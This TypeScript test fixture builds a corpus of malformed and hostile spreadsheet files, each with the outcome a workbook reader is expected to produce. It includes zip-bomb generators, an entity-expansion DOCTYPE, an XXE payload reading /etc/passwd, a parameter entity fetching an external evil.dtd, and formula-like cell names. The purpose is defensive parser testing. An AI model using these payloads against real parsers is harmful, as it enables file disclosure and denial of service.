/**
 * The malformed-file corpus: every file is made by code here, with the outcome it must have —
 * read (with the problems the user is told about), or refused with a named reason. The reader,
 * the command line and the add-in's path (tests beside this file) each run the whole list.
 */
import type { ProblemCode } from "../../src/core";
import type { FileLimit, WorkbookErrorCode } from "../../src/xlsx";
import {
  Cell,
  MAIN,
  Parts,
  SheetSpec,
  bookParts,
  edited,
  rel,
  relsXml,
  withDoctype,
  without,
  zipOf,
} from "./books";
import {
  FINAL_BLOCK,
  RawEntry,
  bomb,
  concat,
  deflatePiece,
  deflated,
  rawZip,
  repeatedPieces,
  zip64Claiming,
} from "./zip-bytes";
import { RECORD, compoundFile, f64, u16, xlsFile } from "./xls-bytes";

export type Outcome =
  | {
      readonly refused: WorkbookErrorCode;
      readonly limit?: FileLimit;
      /** The sheet (and cell) the message must name. */
      readonly sheet?: string;
      readonly cell?: string;
    }
  | {
      /** Score tables the engine finds (0: the command line says no table was found). */
      readonly tables: number;
      /** Problem codes the user must be told about (each must appear). */
      readonly problems?: readonly ProblemCode[];
      /** Sheets read, in order, when the case is about them. */
      readonly sheets?: readonly string[];
      /** Cell values the reader must give, "Sheet!A1" → value. */
      readonly cells?: Readonly<Record<string, unknown>>;
      /** Whether the add-in's path applies (false for sheets too large for the emulator). */
      readonly addin?: boolean;
    };

export interface HostileCase {
  readonly name: string;
  /** The file's name as the user has it (decides nothing: the content does). */
  readonly file: string;
  readonly bytes: () => Uint8Array;
  readonly outcome: Outcome;
  /** The most seconds reading (or the whole command) may take: no hang. */
  readonly seconds: number;
  /**
   * A large legitimate file (hundreds of megabytes inflated): the reader's own test inflates it
   * with zlib, as the command line does; fflate's bounded stream is tested in test/xlsx/zip.test.ts.
   */
  readonly large?: boolean;
}

const SHEET = "三季度各市";
const HEADER = [
  "序号",
  "市（区）",
  "交叉检查得分",
  "八办两组得分",
  "月通报得分",
  "综合得分",
  "排名",
];
const CITIES: readonly [string, number, number, number][] = [
  ["西安市", 93.42, 90.11, 1.5],
  ["宝鸡市", 91.3, 90.63, 1.2],
  ["咸阳市", 90.85, 88.4, 1.1],
  ["铜川市", 89.2, 87.95, 0.9],
  ["渭南市", 90.1, 88.72, 1.0],
  ["延安市", 91.05, 89.1, 1.3],
  ["榆林市", 90.66, 89.87, 1.4],
  ["汉中市", 94.25, 91.78, 1.7],
  ["安康市", 92.14, 89.03, 1.9],
  ["商洛市", 93.1, 90.9, 1.6],
  ["杨凌示范区", 88.9, 87.5, 0.8],
];

const round2 = (x: number) => Math.round(x * 100) / 100;

/** The city table as the province prints it: title, units row, header, 11 cities, a note. */
export function cityRows(
  edit: (row: Cell[], i: number) => Cell[] = (row) => row,
  names: readonly string[] = CITIES.map((c) => c[0])
): Cell[][] {
  const totals = CITIES.map(([, a, b, c]) => round2(0.5 * a + 0.5 * b + c));
  const rank = (t: number) => totals.filter((x) => x > t).length + 1;
  return [
    ["2017年第三季度全省各市脱贫攻坚考核结果"],
    ["单位：分"],
    [...HEADER],
    ...CITIES.map(([, a, b, c], i) =>
      edit([i + 1, names[i], a, b, c, totals[i], rank(totals[i])], i)
    ),
    ["注：综合得分 = 交叉检查 × 50% + 八办两组 × 50% + 月通报"],
  ];
}

export function citySheet(name = SHEET, rows = cityRows()): SheetSpec {
  return { name, rows, merges: ["A1:G1"] };
}

const good = (): Parts => bookParts([citySheet()]);
const goodZip = () => zipOf(good());

/** Bytes with some changed: `at` counted from the end when negative. */
function patched(bytes: Uint8Array, at: number, values: number[]): Uint8Array {
  const copy = Uint8Array.from(bytes);
  copy.set(values, at < 0 ? copy.length + at : at);
  return copy;
}

/** The offset of an entry's local header and its data in an archive made by rawZip. */
function entryOffsets(zip: Uint8Array, name: string): { local: number; data: number } {
  const bytes = new TextEncoder().encode(name);
  for (let i = 0; i + 30 < zip.length; i++) {
    if (zip[i] !== 0x50 || zip[i + 1] !== 0x4b || zip[i + 2] !== 3 || zip[i + 3] !== 4) continue;
    const n = zip[i + 26] | (zip[i + 27] << 8);
    if (n === bytes.length && bytes.every((b, k) => zip[i + 30 + k] === b))
      return { local: i, data: i + 30 + n };
  }
  throw new Error(`no entry ${name}`);
}

/** The parts as raw entries with one replaced. */
function entriesWith(parts: Parts, name: string, entry: RawEntry): RawEntry[] {
  return [...parts].map(([n, data]) => (n === name ? entry : deflated(n, data)));
}

const DOCTYPE_LAUGHS =
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
  '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>';
const DOCTYPE_EXTERNAL = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
const DOCTYPE_PARAMETER =
  '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>';

/** The case for an entity trick in one XML part the reader touches. */
function entityCase(part: string, doctype: string, label: string, sheet?: string): HostileCase {
  return {
    name: `${label} in ${part}`,
    file: "实体.xlsx",
    bytes: () => zipOf(edited(good(), part, (t) => withDoctype(t, doctype))),
    outcome: { refused: "unsafe-xml", sheet },
    seconds: 5,
  };
}

/** A sheet part's XML with rows written straight, for sizes no Cell[][] should hold. */
function rawSheet(rows: string, extra = "", dimension = ""): string {
  return (
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="${MAIN}">` +
    `${dimension ? `<dimension ref="${dimension}"/>` : ""}<sheetData>${rows}</sheetData>${extra}</worksheet>`
  );
}

/** The city sheet and a second sheet whose part is `xml`. */
function withSecondSheet(name: string, xml: string): Parts {
  const parts = bookParts([citySheet(), { name, rows: [["占位"]] }]);
  parts.set("xl/worksheets/sheet2.xml", xml);
  return parts;
}

/** One million rows of household-style data: an ID, a name index and a number per row. */
function millionRows(): string {
  const rows: string[] = [];
  for (let r = 1; r <= 1_000_000; r++)
    rows.push(
      `<row r="${r}"><c r="A${r}"><v>${r}</v></c><c r="B${r}"><v>${(r * 7) % 100}</v></c></row>`
    );
  return rows.join("");
}

const MB = 1 << 20;

export const CORPUS: readonly HostileCase[] = [
  // ── Not a workbook at all ──────────────────────────────────────────────────────────────────
  {
    name: "an empty file",
    file: "空.xlsx",
    bytes: () => new Uint8Array(0),
    outcome: { refused: "empty" },
    seconds: 2,
  },
  {
    name: "random bytes",
    file: "乱码.xlsx",
    bytes: () => Uint8Array.from({ length: 5000 }, (_, i) => (i * 7919 + 13) % 256),
    outcome: { refused: "not-a-workbook" },
    seconds: 2,
  },
  {
    name: "a CSV renamed .xlsx",
    file: "三季度.xlsx",
    bytes: () =>
      new TextEncoder().encode("\ufeff序号,市（区）,综合得分\n1,汉中市,94.52\n2,安康市,92.49\n"),
    outcome: { refused: "text" },
    seconds: 2,
  },
  {
    name: "an HTML table saved by a web system as .xls",
    file: "系统导出.xls",
    bytes: () =>
      new TextEncoder().encode(
        '<html><head><meta charset="utf-8"></head><body><table><tr><td>汉中市</td><td>94.52</td></tr></table></body></html>'
      ),
    outcome: { refused: "text" },
    seconds: 2,
  },
  // ── Broken zips ────────────────────────────────────────────────────────────────────────────
  {
    name: "a zip cut in half (a download that stopped)",
    file: "下载一半.xlsx",
    bytes: () => goodZip().subarray(0, Math.floor(goodZip().length / 2)),
    outcome: { refused: "corrupt" },
    seconds: 2,
  },
  {
    name: "a zip cut inside its central directory",
    file: "截断.xlsx",
    bytes: () => goodZip().subarray(0, goodZip().length - 40),
    outcome: { refused: "corrupt" },
    seconds: 2,
  },
  {
    name: "an empty zip archive",
    file: "空压缩包.xlsx",
    bytes: () => rawZip([]),
    outcome: { refused: "not-a-workbook" },
    seconds: 2,
  },
  {
    name: "a central directory pointing past the end",
    file: "目录越界.xlsx",
    bytes: () => {
      const zip = goodZip();
      return patched(zip, -6, [0xff, 0xff, 0xff, 0x7f]);
    },
    outcome: { refused: "corrupt" },
    seconds: 2,
  },
  {
    name: "a local header with the wrong signature",
    file: "头损坏.xlsx",
    bytes: () => {
      const zip = goodZip();
      return patched(zip, entryOffsets(zip, "xl/workbook.xml").local, [0x50, 0x4b, 9, 9]);
    },
    outcome: { refused: "corrupt" },
    seconds: 2,
  },
  {
    name: "garbage in the middle of a sheet's compressed data",
    file: "数据损坏.xlsx",
    bytes: () => {
      const zip = goodZip();
      const { data } = entryOffsets(zip, "xl/worksheets/sheet1.xml");
      return patched(
        zip,
        data + 20,
        Array.from({ length: 40 }, (_, i) => (i * 37) & 0xff)
      );
    },
    outcome: { refused: "corrupt", sheet: SHEET },
    seconds: 2,
  },
  {
    name: "an entry compressed with a method no zip reader here knows (LZMA)",
    file: "压缩方法.xlsx",
    bytes: () =>
      rawZip(
        entriesWith(good(), "xl/workbook.xml", {
          ...deflated("xl/workbook.xml", String(good().get("xl/workbook.xml"))),
          method: 14,
        })
      ),
    outcome: { refused: "corrupt" },
    seconds: 2,
  },
  {
    name: "a zip whose entries are encrypted (a zip password)",
    file: "压缩包密码.xlsx",
    bytes: () => rawZip([...good()].map(([n, d]) => ({ ...deflated(n, d), flags: 1 }))),
    outcome: { refused: "encrypted" },
    seconds: 2,
  },
  {
    name: "two entries with one name (two readers would see two workbooks)",
    file: "重名部件.xlsx",
    bytes: () =>
      rawZip([
        ...[...good()].map(([n, d]) => deflated(n, d)),
        deflated("xl/worksheets/sheet1.xml", "<worksheet/>"),
      ]),
    outcome: { refused: "corrupt" },
    seconds: 2,
  },
  // ── Zip bombs ──────────────────────────────────────────────────────────────────────────────
  {
    name: "a deflate bomb: a sheet declaring 600 MB of blanks (over the part cap)",
    file: "压缩炸弹.xlsx",
    bytes: () =>
      rawZip(
        entriesWith(
          good(),
          "xl/worksheets/sheet1.xml",
          bomb("xl/worksheets/sheet1.xml", " ", 600 * MB)
        )
      ),
    outcome: { refused: "too-large", limit: "partBytes" },
    seconds: 5,
  },
  {
    name: "a deflate bomb spread over five parts of 450 MB each (over the package cap)",
    file: "多部件炸弹.xlsx",
    bytes: () =>
      rawZip([
        ...[...good()].map(([n, d]) => deflated(n, d)),
        ...Array.from({ length: 5 }, (_, i) => bomb(`xl/media/image${i + 1}.png`, "\0", 450 * MB)),
      ]),
    outcome: { refused: "too-large", limit: "packageBytes" },
    seconds: 10,
  },
  {
    name: "a many-part bomb: 30,000 tiny entries",
    file: "部件过多.xlsx",
    bytes: () =>
      rawZip([
        ...[...good()].map(([n, d]) => deflated(n, d)),
        ...Array.from({ length: 30_000 }, (_, i) => ({
          name: `x/${i}`,
          data: new Uint8Array(0),
          method: 0,
          size: 0,
          crc: 0,
        })),
      ]),
    outcome: { refused: "too-large", limit: "parts" },
    seconds: 5,
  },
  {
    name: "a zip64 directory claiming a trillion entries",
    file: "zip64.xlsx",
    bytes: () => zip64Claiming(goodZip(), 1e12),
    outcome: { refused: "too-large", limit: "parts" },
    seconds: 2,
  },
  {
    name: "a part claiming 1 KB that inflates to 1 GB (a bomb that lies)",
    file: "谎报大小.xlsx",
    bytes: () =>
      rawZip(
        entriesWith(
          good(),
          "xl/worksheets/sheet1.xml",
          bomb("xl/worksheets/sheet1.xml", " ", 1024 * MB, 1024)
        )
      ),
    outcome: { refused: "corrupt", sheet: SHEET },
    seconds: 10,
  },
  {
    name: "a part claiming 300 MB that holds a few bytes",
    file: "虚报大小.xlsx",
    bytes: () =>
      rawZip(
        entriesWith(good(), "xl/sharedStrings.xml", {
          ...deflated("xl/sharedStrings.xml", String(good().get("xl/sharedStrings.xml"))),
          size: 300 * MB,
        })
      ),
    outcome: { refused: "corrupt" },
    seconds: 10,
  },
  {
    name: "a sheet padded with 300 MB of blank XML (within the caps: read)",
    file: "空白填充.xlsx",
    bytes: () => {
      const xml = String(good().get("xl/worksheets/sheet1.xml"));
      const at = xml.indexOf("<sheetData>");
      const head = new TextEncoder().encode(xml.slice(0, at));
      const tail = new TextEncoder().encode(xml.slice(at));
      // Head, 300 MB of spaces, tail: pieces of one deflate stream, about 300 KB in all.
      const data = concat([
        deflatePiece(head),
        ...repeatedPieces(" ", 300 * MB),
        deflatePiece(tail),
        FINAL_BLOCK,
      ]);
      return rawZip(
        entriesWith(good(), "xl/worksheets/sheet1.xml", {
          name: "xl/worksheets/sheet1.xml",
          data,
          method: 8,
          size: head.length + 300 * MB + tail.length,
          crc: 0,
        })
      );
    },
    outcome: { tables: 1, addin: false },
    seconds: 40,
    large: true,
  },
  // ── Package structure ──────────────────────────────────────────────────────────────────────
  {
    name: "no [Content_Types].xml",
    file: "无类型.xlsx",
    bytes: () => zipOf(without(good(), "[Content_Types].xml")),
    outcome: { refused: "not-a-workbook" },
    seconds: 2,
  },
  {
    name: "no package relationships (_rels/.rels)",
    file: "无关系.xlsx",
    bytes: () => zipOf(without(good(), "_rels/.rels")),
    outcome: { refused: "not-a-workbook" },
    seconds: 2,
  },
  {
    name: "the workbook relationship pointing nowhere",
    file: "指向不存在.xlsx",
    bytes: () =>
      zipOf(edited(good(), "_rels/.rels", (t) => t.replace("xl/workbook.xml", "xl/nowhere.xml"))),
    outcome: { refused: "not-a-workbook" },
    seconds: 2,
  },
  {
    name: "a sheet's relationship pointing nowhere",
    file: "工作表缺失.xlsx",
    bytes: () => zipOf(without(good(), "xl/worksheets/sheet1.xml")),
    outcome: { refused: "corrupt", sheet: SHEET },
    seconds: 2,
  },
  {
    name: "a sheet missing from the workbook's relationships",
    file: "关系缺失.xlsx",
    bytes: () =>
      zipOf(
        edited(good(), "xl/_rels/workbook.xml.rels", (t) =>
          t.replace(/<Relationship Id="rId1"[^>]*\/>/, "")
        )
      ),
    outcome: { refused: "corrupt", sheet: SHEET },
    seconds: 2,
  },
  {
    name: "a sheet part in the zip that no relationship names (read; the orphan is ignored)",
    file: "孤立部件.xlsx",
    bytes: () => {
      const parts = good();
      parts.set("xl/worksheets/sheet9.xml", rawSheet('<row r="1"><c r="A1"><v>1</v></c></row>'));
      return zipOf(parts);
    },
    outcome: { tables: 1, sheets: [SHEET] },
    seconds: 10,
  },
  {
    name: "the shared strings relationship pointing nowhere",
    file: "共享字符串缺失.xlsx",
    bytes: () => zipOf(without(good(), "xl/sharedStrings.xml")),
    outcome: { refused: "corrupt" },
    seconds: 2,
  },
  {
    name: "the styles relationship pointing nowhere (read without number formats)",
    file: "样式缺失.xlsx",
    bytes: () => zipOf(without(good(), "xl/styles.xml")),
    outcome: { tables: 1 },
    seconds: 10,
  },
  {
    name: "a sheet's drawing relationship pointing nowhere, and an external link (read and written)",
    file: "悬空关系.xlsx",
    bytes: () => {
      const parts = good();
      parts.set(
        "xl/worksheets/_rels/sheet1.xml.rels",
        relsXml(
          rel("rId1", "drawing", "../drawings/drawing9.xml"),
          rel("rId2", "hyperlink", "http://example.invalid/", true)
        )
      );
      return zipOf(parts);
    },
    outcome: { tables: 1 },
    seconds: 10,
  },
  {
    name: "a workbook part with an unterminated tag",
    file: "工作簿损坏.xlsx",
    bytes: () =>
      zipOf(edited(good(), "xl/workbook.xml", (t) => t.replace("</sheets>", "</sheets"))),
    outcome: { refused: "corrupt" },
    seconds: 2,
  },
  {
    name: "a workbook part without <sheets>",
    file: "无工作表.xlsx",
    bytes: () =>
      zipOf(edited(good(), "xl/workbook.xml", (t) => t.replace(/<sheets>.*<\/sheets>/, ""))),
    outcome: { refused: "corrupt" },
    seconds: 2,
  },
  {
    name: "1,001 sheets (over the sheet cap)",
    file: "工作表过多.xlsx",
    bytes: () =>
      zipOf(
        bookParts(Array.from({ length: 1001 }, (_, i) => ({ name: `表${i + 1}`, rows: [[i]] })))
      ),
    outcome: { refused: "too-large", limit: "sheets" },
    seconds: 10,
  },
  {
    name: "an Excel binary workbook (.xlsb)",
    file: "二进制.xlsb",
    bytes: () =>
      zipOf(
        new Map<string, string | Uint8Array>([
          [
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>',
          ],
          ["_rels/.rels", relsXml(rel("rId1", "officeDocument", "xl/workbook.bin"))],
          ["xl/workbook.bin", Uint8Array.of(0x83, 1, 0)],
        ])
      ),
    outcome: { refused: "xlsb" },
    seconds: 2,
  },
  {
    name: "a Strict Open XML workbook",
    file: "严格格式.xlsx",
    bytes: () =>
      zipOf(
        edited(good(), "xl/workbook.xml", (t) =>
          t.replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main")
        )
      ),
    outcome: { refused: "strict" },
    seconds: 2,
  },
  // ── Passwords, other formats in disguise ──────────────────────────────────────────────────
  {
    name: "a workbook with a password to open (EncryptionInfo and EncryptedPackage)",
    file: "加密.xlsx",
    bytes: () =>
      compoundFile({
        EncryptionInfo: Uint8Array.of(4, 0, 4, 0, 0x40, 0, 0, 0, ...new Array(200).fill(7)),
        EncryptedPackage: Uint8Array.from({ length: 4096 }, (_, i) => (i * 31) & 0xff),
      }),
    outcome: { refused: "encrypted" },
    seconds: 2,
  },
  {
    name: "an .xls renamed .xlsx (read: the content decides)",
    file: "其实是xls.xlsx",
    bytes: () => xlsFile([citySheet()]),
    outcome: { tables: 1, sheets: [SHEET], cells: { [`${SHEET}!B4`]: "西安市" } },
    seconds: 10,
  },
  {
    name: "an .xls with a password to open (FILEPASS)",
    file: "加密.xls",
    bytes: () => xlsFile([citySheet()], { globals: [[RECORD.FILEPASS, [1, 0, 1, 0, 1, 0]]] }),
    outcome: { refused: "encrypted" },
    seconds: 2,
  },
  {
    name: "an Excel 95 workbook (BIFF5)",
    file: "旧格式.xls",
    bytes: () => xlsFile([citySheet()], { version: 0x0500, stream: "Book" }),
    outcome: { refused: "old-xls" },
    seconds: 2,
  },
  {
    name: "a Word document renamed .xls",
    file: "其实是doc.xls",
    bytes: () => compoundFile({ WordDocument: Uint8Array.from({ length: 600 }, () => 7) }),
    outcome: { refused: "not-a-workbook" },
    seconds: 2,
  },
  {
    name: "an .xls cut short",
    file: "截断.xls",
    bytes: () => xlsFile([citySheet()]).subarray(0, 700),
    outcome: { refused: "corrupt" },
    seconds: 2,
  },
  {
    name: "an .xls whose sheet has a NUMBER record too short for its number",
    file: "记录损坏.xls",
    bytes: () =>
      xlsFile([citySheet()], { sheetExtra: [[RECORD.NUMBER, [...u16(20), ...u16(0), 0, 0, 1]]] }),
    outcome: { refused: "corrupt", sheet: SHEET },
    seconds: 2,
  },
  {
    name: "an .xls declaring four billion shared strings",
    file: "字符串炸弹.xls",
    bytes: () => xlsFile([citySheet()], { sstCount: 0xffffffff }),
    outcome: { refused: "too-large", limit: "sharedStrings" },
    seconds: 2,
  },
  {
    name: "an .xls with a cell in column 65,536 (past Excel's last column)",
    file: "列越界.xls",
    bytes: () =>
      xlsFile([citySheet()], {
        sheetExtra: [[RECORD.NUMBER, [...u16(5), ...u16(0xffff), ...u16(0), ...f64(1)]]],
      }),
    outcome: { refused: "too-large", limit: "columns", sheet: SHEET, cell: "CRXP6" },
    seconds: 2,
  },
  // ── Entities and DOCTYPEs in every XML part the reader touches ─────────────────────────────
  entityCase("[Content_Types].xml", DOCTYPE_LAUGHS, "entity expansion"),
  entityCase("_rels/.rels", DOCTYPE_EXTERNAL, "an external entity"),
  entityCase("xl/workbook.xml", DOCTYPE_LAUGHS, "entity expansion"),
  entityCase("xl/_rels/workbook.xml.rels", DOCTYPE_PARAMETER, "a parameter entity"),
  entityCase("xl/worksheets/sheet1.xml", DOCTYPE_LAUGHS, "entity expansion", SHEET),
  entityCase("xl/sharedStrings.xml", DOCTYPE_EXTERNAL, "an external entity"),
  entityCase("xl/styles.xml", DOCTYPE_LAUGHS, "entity expansion"),
  {
    name: "a DOCTYPE in a part the reader does not touch (docProps/core.xml: read, copied as is)",
    file: "属性实体.xlsx",
    bytes: () => zipOf(edited(good(), "docProps/core.xml", (t) => withDoctype(t, DOCTYPE_LAUGHS))),
    outcome: { tables: 1 },
    seconds: 10,
  },
  // ── Encodings ──────────────────────────────────────────────────────────────────────────────
  {
    name: "invalid UTF-8 in the shared strings (read, the bad bytes as U+FFFD)",
    file: "编码错误.xlsx",
    bytes: () => {
      const parts = good();
      const text = new TextEncoder().encode(String(parts.get("xl/sharedStrings.xml")));
      const at = text.indexOf(0xe8); // inside the first Chinese character after the header row
      const broken = Uint8Array.from(text);
      broken[at + 1] = 0xff;
      parts.set("xl/sharedStrings.xml", broken);
      return zipOf(parts);
    },
    outcome: { tables: 1 },
    seconds: 10,
  },
  {
    name: "invalid UTF-8 in a sheet's name",
    file: "表名编码.xlsx",
    bytes: () => {
      const parts = good();
      const text = new TextEncoder().encode(String(parts.get("xl/workbook.xml")));
      const name = new TextEncoder().encode(SHEET);
      const at = indexOfBytes(text, name);
      const out = Uint8Array.from(text);
      out[at + 2] = 0xc0; // a byte that can never appear in UTF-8
      parts.set("xl/workbook.xml", out);
      return zipOf(parts);
    },
    outcome: { tables: 1 },
    seconds: 10,
  },
  {
    name: "a sheet part in UTF-16 with a byte-order mark",
    file: "UTF16.xlsx",
    bytes: () => {
      const parts = good();
      const xml = String(parts.get("xl/worksheets/sheet1.xml")).replace(
        'encoding="UTF-8"',
        'encoding="UTF-16"'
      );
      const units = new Uint8Array(2 + xml.length * 2);
      units.set([0xff, 0xfe]);
      for (let i = 0; i < xml.length; i++) {
        units[2 + i * 2] = xml.charCodeAt(i) & 0xff;
        units[3 + i * 2] = xml.charCodeAt(i) >> 8;
      }
      parts.set("xl/worksheets/sheet1.xml", units);
      return zipOf(parts);
    },
    outcome: { tables: 1 },
    seconds: 10,
  },
  // ── Sizes ──────────────────────────────────────────────────────────────────────────────────
  {
    name: "a sheet with a million rows beside the score table (read; too large to search, and said so)",
    file: "百万行.xlsx",
    bytes: () => zipOf(withSecondSheet("建档立卡户", rawSheet(millionRows(), "", "A1:B1000000"))),
    outcome: { tables: 1, problems: ["sheetTooLarge"], addin: false },
    seconds: 60,
    large: true,
  },
  {
    name: "a cell in row 2,000,000 (past Excel's last row)",
    file: "行越界.xlsx",
    bytes: () =>
      zipOf(
        withSecondSheet("附表", rawSheet('<row r="2000000"><c r="A2000000"><v>1</v></c></row>'))
      ),
    outcome: { refused: "too-large", limit: "rows", sheet: "附表", cell: "A2000000" },
    seconds: 2,
  },
  {
    name: "a cell at row 99,999,999,999,999,999,999 (a number no row can have)",
    file: "行号溢出.xlsx",
    bytes: () =>
      zipOf(
        withSecondSheet("附表", rawSheet('<row r="99999999999999999999"><c><v>1</v></c></row>'))
      ),
    outcome: { refused: "too-large", limit: "rows", sheet: "附表" },
    seconds: 2,
  },
  {
    name: "a cell in column XFE (past Excel's last column)",
    file: "列越界.xlsx",
    bytes: () =>
      zipOf(withSecondSheet("附表", rawSheet('<row r="1"><c r="XFE1"><v>1</v></c></row>'))),
    outcome: { refused: "too-large", limit: "columns", sheet: "附表", cell: "XFE1" },
    seconds: 2,
  },
  {
    name: "a dimension past Excel's grid, before any cell",
    file: "范围越界.xlsx",
    bytes: () => zipOf(withSecondSheet("附表", rawSheet("", "", "A1:ZZZZ5"))),
    outcome: { refused: "too-large", limit: "columns", sheet: "附表", cell: "ZZZZ5" },
    seconds: 2,
  },
  {
    name: "a stray value at Z1048576 (a used range of 27 million cells)",
    file: "远处的值.xlsx",
    bytes: () =>
      zipOf(
        edited(good(), "xl/worksheets/sheet1.xml", (t) =>
          t.replace(
            "</sheetData>",
            '<row r="1048576"><c r="Z1048576"><v>1</v></c></row></sheetData>'
          )
        )
      ),
    outcome: { refused: "too-large", limit: "sheetCells", sheet: SHEET, cell: "Z1048576" },
    seconds: 5,
  },
  {
    name: "150,000 merged areas (over the merge cap)",
    file: "合并过多.xlsx",
    bytes: () => {
      const merges = Array.from(
        { length: 150_000 },
        (_, i) => `<mergeCell ref="K${i * 2 + 1}:L${i * 2 + 1}"/>`
      ).join("");
      return zipOf(
        edited(good(), "xl/worksheets/sheet1.xml", (t) =>
          t.replace("</worksheet>", `<mergeCells count="150000">${merges}</mergeCells></worksheet>`)
        )
      );
    },
    outcome: { refused: "too-large", limit: "merges", sheet: SHEET },
    seconds: 5,
  },
  {
    name: "17 million empty shared strings (over the shared-string cap)",
    file: "字符串过多.xlsx",
    bytes: () =>
      zipOf(
        edited(good(), "xl/sharedStrings.xml", (t) =>
          t.replace("</sst>", "<si/>".repeat(17_000_000) + "</sst>")
        )
      ),
    outcome: { refused: "too-large", limit: "sharedStrings" },
    seconds: 15,
  },
  {
    name: "a cell of 32,767 characters (Excel's most) in the note row",
    file: "长文本.xlsx",
    bytes: () =>
      zipOf(bookParts([citySheet(SHEET, [...cityRows(), ["注：" + "长".repeat(32_765)]])])),
    outcome: { tables: 1 },
    seconds: 10,
  },
  // ── Data where scores should be ────────────────────────────────────────────────────────────
  {
    name: "error cells (#DIV/0!, #N/A) in score columns",
    file: "错误值.xlsx",
    bytes: () =>
      zipOf(
        bookParts([
          citySheet(
            SHEET,
            cityRows((row, i) =>
              i === 2
                ? [row[0], row[1], { error: "#DIV/0!", formula: "1/0" }, ...row.slice(3)]
                : i === 5
                  ? [...row.slice(0, 4), { error: "#N/A" }, ...row.slice(5)]
                  : row
            )
          ),
        ])
      ),
    outcome: { tables: 1, problems: ["notANumber"], cells: { [`${SHEET}!C6`]: "#DIV/0!" } },
    seconds: 10,
  },
  {
    name: "dates and booleans where scores should be",
    file: "日期布尔.xlsx",
    bytes: () =>
      zipOf(
        bookParts([
          citySheet(
            SHEET,
            cityRows((row, i) =>
              i === 1
                ? [...row.slice(0, 3), { date: 43041 }, ...row.slice(4)]
                : i === 4
                  ? [...row.slice(0, 4), true, ...row.slice(5)]
                  : row
            )
          ),
        ])
      ),
    outcome: {
      tables: 1,
      problems: ["notANumber"],
      cells: { [`${SHEET}!D5`]: "2017-11-02T00:00:00.000Z" },
    },
    seconds: 10,
  },
  {
    name: "a sheet name with a bracket, which Excel never allows",
    file: "非法表名.xlsx",
    bytes: () => zipOf(bookParts([citySheet("三季度[汇总]")])),
    outcome: { refused: "corrupt", sheet: "三季度[汇总]" },
    seconds: 2,
  },
  {
    name: "two sheets whose names differ only in case",
    file: "表名重复.xlsx",
    bytes: () => zipOf(bookParts([citySheet("Q3 cities"), citySheet("Q3 Cities")])),
    outcome: { refused: "corrupt", sheet: "Q3 Cities" },
    seconds: 2,
  },
  {
    name: "sheet and unit names with quotes, brackets, emoji and formula-like text",
    file: "怪名字.xlsx",
    bytes: () =>
      zipOf(
        bookParts([
          citySheet(
            "It's =三季度+ 😀",
            cityRows(undefined, [
              "=SUM(A1:A9)",
              "+宝鸡市",
              "-咸阳市",
              "@铜川市",
              "渭南市'",
              '延安"市"',
              "[榆林市]",
              "汉中市😀",
              "安康市",
              "商洛市 !",
              "杨凌示范区<b>",
            ])
          ),
        ])
      ),
    outcome: {
      tables: 1,
      sheets: ["It's =三季度+ 😀"],
      cells: { "It's =三季度+ 😀!B4": "=SUM(A1:A9)", "It's =三季度+ 😀!B14": "杨凌示范区<b>" },
    },
    seconds: 10,
  },
  {
    name: "duplicate unit names",
    file: "重名单位.xlsx",
    bytes: () =>
      zipOf(
        bookParts([
          citySheet(
            SHEET,
            cityRows(undefined, [...CITIES.map((c) => c[0]).slice(0, 10), "西安市"])
          ),
        ])
      ),
    outcome: { tables: 1, problems: ["duplicateUnit"] },
    seconds: 10,
  },
  {
    name: "a table whose every score is blank",
    file: "全空分数.xlsx",
    bytes: () =>
      zipOf(
        bookParts([
          citySheet(
            SHEET,
            cityRows((row) => [row[0], row[1], null, null, null, null, null])
          ),
        ])
      ),
    outcome: { tables: 0 },
    seconds: 10,
  },
  {
    name: "overlapping merged ranges",
    file: "合并重叠.xlsx",
    bytes: () =>
      zipOf(bookParts([{ ...citySheet(), merges: ["A1:G1", "A1:D2", "C1:G2", "A1:A1"] }])),
    outcome: { tables: 1 },
    seconds: 10,
  },
  {
    name: "cells without references, shared-string indexes out of range, numbers that are not",
    file: "奇怪单元格.xlsx",
    bytes: () =>
      zipOf(
        edited(good(), "xl/worksheets/sheet1.xml", (t) =>
          t.replace(
            "</sheetData>",
            '<row><c t="s"><v>99999999</v></c><c><v>1e999</v></c><c><v>NaN</v></c><c r="5"><v>7</v></c></row></sheetData>'
          )
        )
      ),
    outcome: { tables: 1 },
    seconds: 10,
  },
];

function indexOfBytes(haystack: Uint8Array, needle: Uint8Array): number {
  outer: for (let i = 0; i + needle.length <= haystack.length; i++) {
    for (let k = 0; k < needle.length; k++) if (haystack[i + k] !== needle[k]) continue outer;
    return i;
  }
  throw new Error("not found");
}

/** The cases in a named group, for a test that runs only some. */
export function caseNamed(name: string): HostileCase {
  const found = CORPUS.find((c) => c.name === name);
  if (!found) throw new Error(`no case "${name}"`);
  return found;
}
